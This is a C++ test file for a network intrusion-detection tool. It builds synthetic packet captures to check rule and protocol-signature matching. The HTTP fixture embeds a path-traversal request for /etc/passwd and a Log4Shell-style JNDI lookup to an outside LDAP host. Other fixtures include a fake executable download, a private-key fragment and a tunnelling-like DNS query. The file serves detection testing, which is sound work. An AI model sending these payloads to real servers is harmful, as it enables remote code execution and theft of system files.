// What rules and signatures find: runs with conf/rules.yaml and conf/signatures.yaml.
#include "pcaps/catalogue.h"

namespace linger::test {
namespace {

using namespace std::string_literals;

constexpr std::string_view kRequest =
    "GET /a/%2E%2e%2fetc/passwd HTTP/1.1\r\nHost: www.example.com\r\n"
    "Authorization: Basic Ym9iOnNlY3JldA==\r\nUser-Agent: ${jndi:ldap://198.51.100.9/a}\r\n\r\n";
const std::string kResponse = "HTTP/1.1 200 OK\r\nContent-Length: 87\r\n\r\nMZ"s +
                              std::string(58, '\0') + "\xf0\0\0\0"s + "in DOS mode.\n$"s +
                              "\0\0\0"s + "PE\0\0"s + "the rest"s;

TcpPeers peers(Frames& frames, std::uint16_t number, std::uint16_t port) {
  return {
      frames, {"192.0.2.7", static_cast<std::uint16_t>(40'000 + number)}, {"198.51.100.80", port}};
}

// In segments of at most `piece` bytes.
void say(TcpPeers& tcp, Side side, std::string_view text, std::size_t piece, std::int64_t time) {
  for (std::size_t from = 0; from < text.size(); from += piece)
    tcp.data(side, text.substr(from, piece), time);
}

void add_http(Frames& frames, std::uint16_t number, std::size_t piece, std::int64_t time) {
  TcpPeers tcp = peers(frames, number, 80);
  tcp.handshake(time);
  say(tcp, Side::client, kRequest, piece, time + 10 * kMillisecond);
  say(tcp, Side::server, kResponse, piece, time + 20 * kMillisecond);
  tcp.close(Side::client, time + 30 * kMillisecond);
}

// A login on a port that a rule is for, or not.
void add_login(Frames& frames, std::uint16_t number, std::uint16_t port, std::int64_t time) {
  TcpPeers tcp = peers(frames, number, port);
  tcp.handshake(time);
  say(tcp, Side::server, "220 FTP ready\r\n", 1'400, time + 10 * kMillisecond);
  say(tcp, Side::client, "USER bob\r\nPASS secret\r\n", 13, time + 20 * kMillisecond);
  tcp.close(Side::client, time + 30 * kMillisecond);
}

// Of a key's first line the capture missed a part; it saw all of the one behind.
void add_gap(Frames& frames, std::uint16_t number, std::string_view behind, std::int64_t time) {
  TcpPeers tcp = peers(frames, number, 9'000);
  tcp.handshake(time);
  tcp.data(Side::client, "-----BEGIN ", time + kMillisecond);
  tcp.data(Side::client, "RSA ", time + kMillisecond, {.captured = false});
  tcp.data(Side::client, "PRIVATE KEY-----\n", time + kMillisecond);
  tcp.ack(Side::server, time + 10 * kMillisecond);
  tcp.data(Side::client, behind, time + 20 * kMillisecond);
  tcp.close(Side::client, time + 30 * kMillisecond);
}

Frame dns_query(std::string_view label, std::int64_t time) {
  std::string name;
  for (int i = 0; i < 3; ++i) name += static_cast<char>(label.size()) + std::string(label);
  PacketBuilder builder;
  builder.ethernet().ip("192.0.2.7", "198.51.100.53").udp(40'000, 53);
  return builder.payload("ab\1\0\0\1\0\0\0\0\0\0"s + name + "\0\0\1\0\1"s).frame(time);
}

// What a client or, of MySQL and Redis, a server says first.
struct FirstWords {
  bool is_tcp;
  std::string words;
};

std::vector<FirstWords> first_words() {
  constexpr bool kTcp = true, kUdp = false;
  const std::string ldap_search = "\2\1\1\x63\x84\0\0\0\x1f\4\0\x0a\1\0\x0a\1\0\2\1\0"s;
  const std::string kerberos = "\x6a\x81\xc0\x30\x81\xbd\xa1\3\2\1\5\xa2\3"s;
  const std::string call = "\0\0\0\1\0\0\0\0\0\0\0\2\0\1\x86"s;
  const std::string netbios = " " + std::string(32, 'A') + '\0';
  return {
      {kTcp, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
      {kTcp, "REFER sip:bob@example.com SIP/2.0\r\n"},
      {kTcp, "\x4a\0\0\0\x0a"s + "8.0.34\0"s},
      {kTcp, "\x5a\0\0\0\x0a"s + "11.4.2-MariaDB\0"s},
      {kTcp, "+PONG\r\n"},
      {kTcp, "\x81\0\0\x44"s + netbios + netbios},
      {kTcp, "\x30\x84\0\0\0\x2d"s + ldap_search},
      {kUdp, "\x30\x84\0\0\0\x2d"s + ldap_search},
      {kTcp, "\0\0\0\xc3"s + kerberos},
      {kUdp, kerberos},
      {kTcp, "\x80\0\0\x28"s + call + "\xa3\0\0\0\4"s},
      {kUdp, call + "\xa0\0\0\0\2"s},
      {kTcp, "\0\1\0\0\x21\x12\xa4\x42"s + std::string(12, 'i')},
      {kTcp, "\x30\x29\2\1\1\4\6public"s},
      {kTcp, "142 <34>1 2026-11-23T02:04:00Z host app - - - it\n"},
      {kTcp, std::string(36, 'q') + '\0'},
      {kTcp, std::string(16, '\xff') + "\0\x2d\1\4"s},
      {kTcp, "AMQP\0\0\x09\1"s},
      {kUdp, "\x0c\1\0\x26"s + std::string(16, 'a') + "\x50\x12"s + std::string(16, 'm')},
      {kUdp, "id\1\x10\0\1\0\0\0\0\0\0"s + netbios + "\0\x20\0\1"s},
      {kUdp, "\x11\2id\xc0\0\2\7\0\x8a\0\xbb\0\0"s + netbios},
      {kUdp, "\x23\0\0\x20"s + std::string(36, '\0') + "at random"},
      {kUdp, "\x25\2\6\xe9\0\0\0\1\0\0\0\1"s + std::string(36, 't')},
      {kUdp, "\1xid\0\1\0\x0e\0\1\0\1"s + std::string(10, 'd')},
      {kUdp, "initiate"s + std::string(8, '\0') + "\x21\x20\x22\x08"s + std::string(7, '\0')},
      {kTcp, "\x30\x84\0\0\0\x4b\2\2\0\x97\x60\x84\0\0\0\x41\2\1\3\4\0"s},
      {kTcp, "\xff\xfd\x27\xff\xfa\x27\1\xff\xf0"},
      {kTcp, "gets key\r\n"},
      {kTcp, "cas key 0 0 1 7\r\nx\r\n"},
      {kTcp, "\x80\x0b\0\0\0\0\0\0"s + std::string(16, '\0')},
      {kTcp, "PASS x\r\nNICK joe\r\n"},
      {kTcp, ":irc.example.net NOTICE * :*** Looking up your hostname\r\n"},
      {kTcp, "200 news.example.com InterNetNews NNRP server INN 2.7.1 ready\r\n"},
      {kTcp, "MODE READER\r\n"},
      {kTcp, std::string(16, '\xff') + "\0\x13\4"s},
      {kTcp, "\x44\0\0\0\xff\x6a\4Host '192.0.2.7' is not allowed to connect"s},
      {kTcp, "RFB 003.889\n"},
      {kUdp, "\4i\0\x22"s + std::string(16, 'a') + "\x28\6\0\0\0\1"s},
      {kUdp, "\x23\0\6\x20"s + std::string(36, '\0') + "transmit"s},
      {kUdp, "\x24\1\0\xe8\0\0\0\0\0\0\0\x2a"s + std::string(36, 't')},
      // What looks like one of them, and is none: a login of FTP or POP3, ISO transport of a
      // controller, a count, messages that begin with their length or their number.
      {kTcp, "USER anonymous\r\n"},
      {kTcp, "\3\0\0\x16\x11\xe0\0\0\0\1\0\xc0\1\x0a\xc1\2\1\0\xc2\2\1\2"s},
      {kTcp, "incremental\r\n"},
      {kTcp, "\3\0\0\0\x0c\0\0\0\0\0\0\0"s},
      {kUdp, "\x14\0\0\0\1\0\0\0\2\0\0\0"s + std::string(8, 'd')},
      {kUdp, "\2\0\0\0"s + std::string(100, 'd')},
  };
}

void add_signatures(Catalogue& catalogue) {
  Frames frames;
  std::uint16_t number = 0;
  for (const FirstWords& first : first_words()) {
    const std::int64_t time = at(++number * kMillisecond);
    if (first.is_tcp) {
      peers(frames, number, 9'000).data(Side::client, first.words, time);
    } else {
      PacketBuilder builder;
      builder.ethernet()
          .ip("192.0.2.7", "198.51.100.80")
          .udp(static_cast<std::uint16_t>(40'000 + number), 9'000);
      frames.push_back(builder.payload(first.words).frame(time));
    }
  }
  catalogue.capture("signatures", "protocols without parser are named by their first bytes", frames,
                    {.settings = "signatures=conf/signatures.yaml"});
}

}  // namespace

void add_rule_captures(Catalogue& catalogue) {
  Frames frames;
  add_http(frames, 1, 1'400, at(0));
  add_http(frames, 2, 7, at(kSecond));
  add_login(frames, 3, 21, at(2 * kSecond));
  add_login(frames, 4, 2'121, at(3 * kSecond));
  add_gap(frames, 5, "nothing", at(4 * kSecond));
  add_gap(frames, 6, "-----BEGIN PRIVATE KEY-----\n", at(5 * kSecond));
  frames.push_back(dns_query(std::string(63, 'a'), at(6 * kSecond)));
  const Expected expected{.settings = "rules=conf/rules.yaml"};
  catalogue.capture(
      "rules", "what matches is told, whole or in pieces; not across a gap, nor for other ports",
      frames, expected);
  catalogue.run("rules_alone", "without parsers rules for a protocol match nothing", {"rules.pcap"},
                {.settings = "rules=conf/rules.yaml parsers=none"});
  catalogue.run("rules_dry", "with one stream a thread the other side is scanned in pieces",
                {"rules.pcap"},
                {.settings = "rules=conf/rules.yaml ruleStreams=1", .hits_limit = true});
  add_signatures(catalogue);
}

}  // namespace linger::test
